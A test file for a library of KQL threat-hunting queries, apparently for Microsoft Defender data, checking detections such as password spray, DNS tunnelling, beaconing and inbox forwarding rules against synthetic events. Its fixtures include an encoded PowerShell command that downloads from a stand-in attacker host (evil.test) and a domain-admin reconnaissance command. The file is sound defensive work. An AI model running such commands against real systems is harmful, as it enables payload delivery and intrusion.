import { expect, test } from "vitest";
import { runKql } from "../../../src/kql/index.js";
import { fillQuery, huntQuery, type QueryArguments, type QueryName } from "../../../src/kql/library/index.js";

const now = new Date("2026-03-02T12:00:00Z");
/** A point in time, minutes ago. */
const ago = (minutes: number): Date => new Date(now.getTime() - minutes * 60_000);

type Row = Readonly<Record<string, unknown>>;

/** The rows that a query of the library finds in these. */
async function find<Name extends QueryName>(
  name: Name,
  given: QueryArguments<Name>,
  tables: Readonly<Record<string, readonly Row[]>>,
): Promise<Record<string, unknown>[]> {
  const empty = Object.fromEntries(huntQuery(name).tables.map((table) => [table, []]));
  const kql = (fillQuery as (name: string, given: object) => string)(name, given);
  return (await runKql(kql, { tables: { ...empty, ...tables }, now })).objects();
}

test("a redirector to our own sites is found, and neither mail security nor a hop of our own is", async () => {
  const click = (minutes: number, ...hops: string[]): Row => ({
    Timestamp: ago(minutes),
    AccountUpn: "ann@contoso.example",
    UrlChain: JSON.stringify(hops),
    Url: hops.at(-1),
  });
  const found = await find(
    "redirects-to-own-sites",
    { ownDomains: ["Contoso.example"] },
    {
      UrlClickEvents: [
        click(60, "https://evil.test/x?y", "https://www.contoso.example/login"),
        click(50, "https://eur01.safelinks.protection.outlook.com/?u", "https://contoso.example/"),
        click(40, "https://contoso.example/", "https://contoso.example/home"),
        click(30, "https://evil.test/z", "https://notcontoso.example/"),
        click(20, "https://contoso.example/"),
      ],
    },
  );
  expect(found).toMatchObject([{ Redirector: "evil.test", Clicks: 1, Targets: ["www.contoso.example"] }]);
});

test("an attachment that was saved and run is found, a circular and a blocked mail are not", async () => {
  const mail = (id: string, to: string, more: Row = {}): Row => ({
    Timestamp: ago(600),
    NetworkMessageId: id,
    RecipientEmailAddress: to,
    EmailDirection: "Inbound",
    DeliveryAction: "Delivered",
    Subject: "Invoice",
    ...more,
  });
  const file = (id: string, to: string, SHA256: string): Row => ({
    Timestamp: ago(600),
    NetworkMessageId: id,
    RecipientEmailAddress: to,
    SenderFromAddress: "a@evil.test",
    FileName: "invoice.iso",
    SHA256,
  });
  const many = Array.from({ length: 6 }, (_, index) => `p${index}@contoso.example`);
  const found = await find(
    "attachment-on-device",
    {},
    {
      EmailEvents: [
        mail("1", "ann@contoso.example"),
        mail("2", "bob@contoso.example", { DeliveryAction: "Blocked" }),
        ...many.map((to) => mail("3", to)),
      ],
      EmailAttachmentInfo: [
        file("1", "ann@contoso.example", "aa"),
        file("2", "bob@contoso.example", "bb"),
        ...many.map((to) => file("3", to, "cc")),
      ],
      DeviceFileEvents: ["aa", "bb", "cc"].map((SHA256) => ({
        Timestamp: ago(500),
        DeviceName: `pc-${SHA256}`,
        SHA256,
        FolderPath: "C:\\x",
      })),
      DeviceProcessEvents: [
        { Timestamp: ago(400), DeviceName: "pc-aa", SHA256: "aa", ProcessCommandLine: "x" },
      ],
    },
  );
  expect(found).toMatchObject([{ DeviceName: "pc-aa", HasRun: true, IsThreat: false, Recipients: 1 }]);
});

test("mail set to go outside is found, to an own address it is not", async () => {
  const rule = (ObjectName: string, Name: string, Value: string, ActionType = "New-InboxRule"): Row => ({
    Timestamp: ago(100),
    ActionType,
    ObjectName,
    AccountDisplayName: "Ann",
    RawEventData: {
      Parameters: [
        { Name: "Name", Value: ObjectName },
        { Name, Value },
      ],
    },
  });
  const found = await find(
    "mail-sent-outside",
    { ownDomains: ["contoso.example"] },
    {
      CloudAppEvents: [
        rule("a", "ForwardTo", "Bob <Bob@Elsewhere.test>;carl@contoso.example"),
        rule("b", "MoveToFolder", "x@elsewhere.test"),
        rule("c", "ForwardingSmtpAddress", "smtp:drop@mail.test", "Set-Mailbox"),
      ],
    },
  );
  expect(found.map(({ Target, ActionType }) => `${String(ActionType)} ${String(Target)}`).toSorted()).toEqual(
    ["New-InboxRule bob@elsewhere.test", "Set-Mailbox drop@mail.test"],
  );
});

test("a spray is found with the account that it entered, an office with a few wrong passwords is not", async () => {
  const signIn = (IPAddress: string, AccountUpn: string, ErrorCode: number): Row => ({
    Timestamp: ago(200),
    IPAddress,
    AccountUpn,
    ErrorCode,
    Application: "Outlook web",
  });
  const found = await find(
    "password-spray",
    {},
    {
      EntraIdSignInEvents: [
        ...Array.from({ length: 12 }, (_, index) =>
          signIn("203.0.113.9", `p${index}@contoso.example`, 50126),
        ),
        signIn("203.0.113.9", "P3@contoso.example", 0),
        ...Array.from({ length: 12 }, () => signIn("192.0.2.1", "ann@contoso.example", 50126)),
      ],
    },
  );
  expect(found).toMatchObject([
    { IPAddress: "203.0.113.9", Tried: 12, Failures: 12, Entered: ["p3@contoso.example"] },
  ]);
});

test("an hour of downloads far above the account's own is found", async () => {
  const take = (minutes: number, AccountObjectId: string, count: number): Row[] =>
    Array.from({ length: count }, (_, index) => ({
      Timestamp: ago(minutes),
      ActionType: "FileDownloaded",
      AccountObjectId,
      AccountDisplayName: AccountObjectId,
      ObjectName: `file ${index}`,
    }));
  const found = await find(
    "mass-download",
    {},
    {
      CloudAppEvents: [
        ...take(60 * 50, "ann", 4),
        ...take(60 * 40, "ann", 6),
        ...take(60 * 2, "ann", 60),
        ...take(60 * 60, "bot", 70),
        ...take(60 * 3, "bot", 75),
      ],
    },
  );
  expect(found).toMatchObject([{ AccountObjectId: "ann", Objects: 60, Usual: 5 }]);
});

test("a tunnel is found by its many long names, a host with many readable ones is not", async () => {
  const ask = (name: string, index: number): Row => ({
    Timestamp: ago(100 + index),
    ActionType: "DnsQueryResponse",
    DeviceName: "pc-1",
    AdditionalFields: JSON.stringify({ DnsQueryString: name }),
  });
  const letters = "abcdefghijklmnopqrstuvwxyz234567";
  const random = (seed: number): string =>
    Array.from({ length: 30 }, (_, index) => letters[(seed * 7 + index * (2 * seed + 5)) % 32]).join("");
  const found = await find(
    "dns-tunnelling",
    {},
    {
      DeviceEvents: [
        ...Array.from({ length: 25 }, (_, index) => ask(`${random(index)}.t.evil.test`, index)),
        ...Array.from({ length: 25 }, (_, index) => ask(`aaaaaaaaaaaaaaaaaaaaaaaa${index}.shop.test`, index)),
        ...Array.from({ length: 25 }, (_, index) => ask(`${random(index)}.cloudfront.net`, index)),
        ask("www.contoso.example", 1),
      ],
    },
  );
  expect(found).toMatchObject([
    { DeviceName: "pc-1", Domain: "evil.test", Names: 25, Queries: 25, Letters: 30 },
  ]);
});

test("a task that one device has is found, with who made it, and a user's own id does not make it rare", async () => {
  const task = (DeviceId: string, TaskName: string, InitiatingProcessFileName = "svchost.exe"): Row => ({
    Timestamp: ago(100),
    ActionType: "ScheduledTaskCreated",
    DeviceId,
    DeviceName: `pc-${DeviceId}`,
    InitiatingProcessFileName,
    AdditionalFields: JSON.stringify({ TaskName }),
  });
  const found = await find(
    "rare-scheduled-task",
    {},
    {
      DeviceEvents: [
        task("1", "\\Updater77", "powershell.exe"),
        ...["1", "2", "3"].map((device) => task(device, `\\OneDrive-S-1-5-21-${device}-4-5`)),
      ],
    },
  );
  expect(found).toMatchObject([{ Task: "\\Updater77", Devices: 1, Makers: ["powershell.exe"] }]);
});

test("who asks many questions within minutes is found, who asks one often is not", async () => {
  const start = (DeviceName: string, FileName: string, ProcessCommandLine = FileName): Row => ({
    Timestamp: ago(100),
    DeviceName,
    AccountName: "ann",
    FileName,
    ProcessCommandLine,
  });
  const found = await find(
    "discovery-burst",
    {},
    {
      DeviceProcessEvents: [
        start("pc-1", "whoami.exe"),
        start("pc-1", "net.exe", 'net group "Domain Admins" /domain'),
        start("pc-1", "NLTEST.EXE"),
        ...Array.from({ length: 9 }, () => start("pc-2", "ipconfig.exe")),
      ],
    },
  );
  expect(found).toMatchObject([{ DeviceName: "pc-1", Kinds: 3, Account: "ann" }]);
});

test("a walk over devices that the account does not visit is found, the daily round is not", async () => {
  const logon = (minutes: number, AccountName: string, device: number): Row => ({
    Timestamp: ago(minutes),
    ActionType: "LogonSuccess",
    LogonType: "Network",
    AccountDomain: "contoso",
    AccountName,
    DeviceId: String(device),
    DeviceName: `pc-${device}`,
    RemoteDeviceName: "pc-0",
  });
  const devices = [1, 2, 3, 4, 5, 6];
  const found = await find(
    "logon-fan-out",
    { lookback: "1d", baseline: "9d" },
    {
      DeviceLogonEvents: [
        ...devices.map((device) => logon(125, "intruder", device)),
        ...devices.map((device) => logon(130, "admin", device)),
        ...devices.map((device) => logon(60 * 48, "admin", device)),
      ],
    },
  );
  expect(found).toMatchObject([{ Account: "contoso\\intruder", Devices: 6, From: ["pc-0"] }]);
});

test("a beacon is found by its rhythm, a person and a service that all call are not", async () => {
  const call = (
    minutes: number,
    DeviceId: string,
    RemoteIP: string,
    InitiatingProcessFileName: string,
  ): Row => ({
    Timestamp: ago(minutes),
    DeviceId,
    DeviceName: `pc-${DeviceId}`,
    ActionType: "ConnectionSuccess",
    RemoteIP,
    RemotePort: 443,
    RemoteIPType: "Public",
    InitiatingProcessFileName,
  });
  const steady = (device: string, address: string): Row[] =>
    Array.from({ length: 20 }, (_, index) => call(10 * index + (index % 3) * 0.2, device, address, "a.exe"));
  const found = await find(
    "beaconing",
    {},
    {
      DeviceNetworkEvents: [
        ...steady("1", "203.0.113.9"),
        ...["1", "2", "3", "4"].flatMap((device) => steady(device, "192.0.2.80")),
        ...Array.from({ length: 20 }, (_, index) => call(index * index, "1", "198.51.100.7", "msedge.exe")),
      ],
    },
  );
  expect(found).toMatchObject([{ DeviceName: "pc-1", RemoteIP: "203.0.113.9", Connections: 20, Devices: 1 }]);
  expect(found[0]?.["MeanSeconds"]).toBeCloseTo(600, -1);
});

test("a sign-in after a click is one from elsewhere, soon, at an address that is new", async () => {
  const click = (AccountUpn: string): Row => ({
    Timestamp: ago(100),
    AccountUpn,
    ActionType: "ClickAllowed",
    Url: "https://evil.test/",
    IPAddress: "192.0.2.10",
  });
  const signIn = (AccountUpn: string, minutes: number, IPAddress: string): Row => ({
    Timestamp: ago(minutes),
    AccountUpn,
    ErrorCode: 0,
    LogonType: '["interactiveUser"]',
    IPAddress,
  });
  const tables = {
    UrlClickEvents: ["Caught@contoso.example", "near@x", "late@x", "usual@x", "fast@x", "six@x"].map(click),
    EntraIdSignInEvents: [
      signIn("caught@contoso.example", 98, "203.0.113.9"),
      signIn("near@x", 98, "192.0.2.77"),
      signIn("late@x", 60, "203.0.113.9"),
      signIn("usual@x", 60 * 24 * 5, "203.0.113.9"),
      signIn("usual@x", 98, "203.0.113.9"),
      signIn("fast@x", 99.99, "203.0.113.9"),
      signIn("six@x", 97, "2001:db8::9"),
    ],
  };
  const found = await find("sign-in-after-click", {}, tables);
  expect(found.map(({ Account, Seconds, Host }) => [Account, Number(Seconds), Host])).toEqual([
    ["caught@contoso.example", 120, "evil.test"],
    ["six@x", 180, "evil.test"],
  ]);
  const judged = await find("sign-in-after-click", { judged: true }, tables);
  const signs = judged.map(({ Account, IsSoon, IsNew, IsNear }) => [Account, { IsSoon, IsNew, IsNear }]);
  const guilty = { IsSoon: true, IsNew: true, IsNear: false };
  expect(Object.fromEntries(signs)).toEqual({
    "caught@contoso.example": guilty,
    "six@x": guilty,
    "near@x": { ...guilty, IsNear: true },
    "late@x": { ...guilty, IsSoon: false },
    "usual@x": { ...guilty, IsNew: false },
  });
});

test("an encoded command is shown in clear", async () => {
  const encoded = Buffer.from("iwr https://evil.test/a", "utf16le").toString("base64");
  const start = (ProcessCommandLine: string): Row => ({
    Timestamp: ago(10),
    FileName: "powershell.exe",
    DeviceId: "1",
    ProcessCommandLine,
  });
  const found = await find(
    "encoded-powershell",
    {},
    {
      DeviceProcessEvents: [
        start(`powershell.exe -nop -EncodedCommand ${encoded}`),
        start(`powershell -enc "${encoded}"`),
        start("powershell.exe -File c:\\scripts\\e.ps1"),
      ],
    },
  );
  expect(found.map(({ Decoded }) => Decoded)).toEqual(["iwr https://evil.test/a", "iwr https://evil.test/a"]);
});

test("a look-alike of the brand is found with letters swapped, an own domain and what is below it are not", async () => {
  const mail = (SenderFromDomain: string): Row => ({
    Timestamp: ago(100),
    EmailDirection: "Inbound",
    SenderFromDomain,
    NetworkMessageId: SenderFromDomain,
    DeliveryAction: "Delivered",
  });
  const found = await find(
    "lookalike-senders",
    { brands: ["contoso"], ownDomains: ["contoso.example"] },
    {
      EmailEvents: [
        "C0nt0so-pay.test",
        "con-toso.test",
        "contoso.example",
        "hr.contoso.example",
        "notcontoso.example",
        "fabrikam.test",
      ].map(mail),
    },
  );
  expect(found.map(({ Domain, Swapped }) => [Domain, Swapped]).toSorted()).toEqual([
    ["c0nt0so-pay.test", true],
    ["con-toso.test", true],
    ["notcontoso.example", false],
  ]);
});
